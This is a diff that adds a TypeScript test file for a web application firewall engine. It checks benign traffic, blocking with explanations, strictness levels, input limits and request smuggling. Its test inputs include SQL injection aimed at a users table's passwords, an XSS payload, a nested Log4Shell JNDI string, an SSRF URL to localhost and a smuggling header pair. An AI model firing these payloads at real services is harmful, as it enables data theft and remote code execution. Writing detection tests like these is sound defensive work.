@@ -1,0 +1,105 @@
+import { readFileSync } from 'node:fs'
+import { describe, expect, it } from 'vitest'
+import { createWafEngine } from './engine.ts'
+import { parseWafRequestLine } from './ndjson.ts'
+
+const engine = createWafEngine()
+const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'
+
+describe('realistic shop requests', () => {
+  const lines = readFileSync(new URL('./fixtures/benign-requests.ndjson', import.meta.url), 'utf8').split('\n').filter(Boolean)
+  it.each(lines.map((l, i) => [i + 1, l] as const))('allows request %i', (_n, line) => {
+    const parsed = parseWafRequestLine(line)
+    if (!parsed.ok) throw new Error(parsed.error)
+    const v = engine.inspect(parsed.request)
+    expect(v.matches).toEqual([])
+    expect(v.action).toBe('allow')
+  })
+})
+
+describe('explanations', () => {
+  it('names rule, category, target, decoded excerpt and a sentence', () => {
+    const v = engine.inspect({ method: 'GET', uri: '/p?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', headers: { 'user-agent': UA } })
+    expect(v.action).toBe('block')
+    const m = v.matches.find((x) => x.rule === 'waf.sqli.union-select')
+    expect(m).toMatchObject({ category: 'sqli', target: 'args:id' })
+    expect(m?.excerpt).toContain('UNION SELECT')
+    expect(m?.explanation).toMatch(/^Read as SQL .*UNION SELECT.*\.$/)
+  })
+
+  it('finds JSON leaves at depth and names their path', () => {
+    const body = JSON.stringify({ user: { profile: { bio: '<svg onload=alert(1)>' } } })
+    const v = engine.inspect({ method: 'POST', uri: '/api', headers: { 'content-type': 'application/json' }, body })
+    expect(v.matches[0]?.target).toBe('body:json:user.profile.bio')
+  })
+
+  it('finds Log4Shell in any header and says it was nested', () => {
+    const v = engine.inspect({ method: 'GET', uri: '/', headers: { 'x-api-version': '${${lower:j}ndi:ldap://e.example/a}' } })
+    expect(v.matches[0]).toMatchObject({ rule: 'waf.jndi.lookup', target: 'header:x-api-version' })
+    expect(v.matches[0]?.explanation).toContain('nested')
+  })
+
+  it('reports base64-decoded findings as such', () => {
+    const v = engine.inspect({ method: 'GET', uri: `/p?x=${btoa("1' UNION SELECT 1,2--")}` })
+    expect(v.matches[0]?.explanation).toContain('after base64 decoding')
+  })
+})
+
+describe('levels', () => {
+  it('a higher level flags what a lower one lets through', () => {
+    const req = { method: 'GET', uri: '/go?to=http://localhost:8080/admin' }
+    expect(createWafEngine({ level: 2 }).inspect(req).action).toBe('allow')
+    expect(createWafEngine({ level: 3 }).inspect(req).action).toBe('block')
+  })
+})
+
+describe('worst cases are bounded', () => {
+  it('a 2 MB body is cut at the body limit and flagged', () => {
+    const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'text/plain' }, body: 'a'.repeat(2 << 20) })
+    expect(v.truncated).toContain('body')
+  })
+
+  it('10,000 parameters stop at the parameter limit', () => {
+    const uri = `/?${Array.from({ length: 10_000 }, (_, i) => `p${i}=${i}`).join('&')}`
+    const v = engine.inspect({ method: 'GET', uri })
+    expect(v.truncated).toContain('params')
+  })
+
+  it('1000-deep JSON stops at the depth limit', () => {
+    const body = `${'['.repeat(1000)}"x"${']'.repeat(1000)}`
+    const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'application/json' }, body })
+    expect(v.truncated).toContain('json-depth')
+  })
+
+  it('an attack past the value limit is not seen, and the cut is reported', () => {
+    const small = createWafEngine({ limits: { maxValueBytes: 1024 } })
+    const v = small.inspect({ method: 'GET', uri: `/?q=${'a'.repeat(2000)}%3Cscript%3E` })
+    expect(v.action).toBe('allow')
+    expect(v.truncated).toContain('args:q')
+  })
+
+  it('pathological input for every detector still yields a verdict', () => {
+    const nasty = [
+      "'".repeat(100_000),
+      '<a '.repeat(30_000),
+      '${'.repeat(30_000),
+      '%25'.repeat(30_000),
+      '&#'.repeat(50_000),
+      ';$('.repeat(30_000),
+      '://'.repeat(30_000),
+      '(&('.repeat(30_000),
+      'on'.repeat(50_000) + '=',
+    ]
+    for (const s of nasty) {
+      const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'text/plain' }, body: s })
+      expect(['block', 'allow']).toContain(v.action)
+    }
+  })
+})
+
+describe('protocol', () => {
+  it('flags Content-Length together with Transfer-Encoding', () => {
+    const v = engine.inspect({ method: 'POST', uri: '/', headers: { host: 'a', 'content-length': '5', 'transfer-encoding': 'chunked' } })
+    expect(v.matches.map((m) => m.rule)).toContain('waf.protocol.smuggling')
+  })
+})
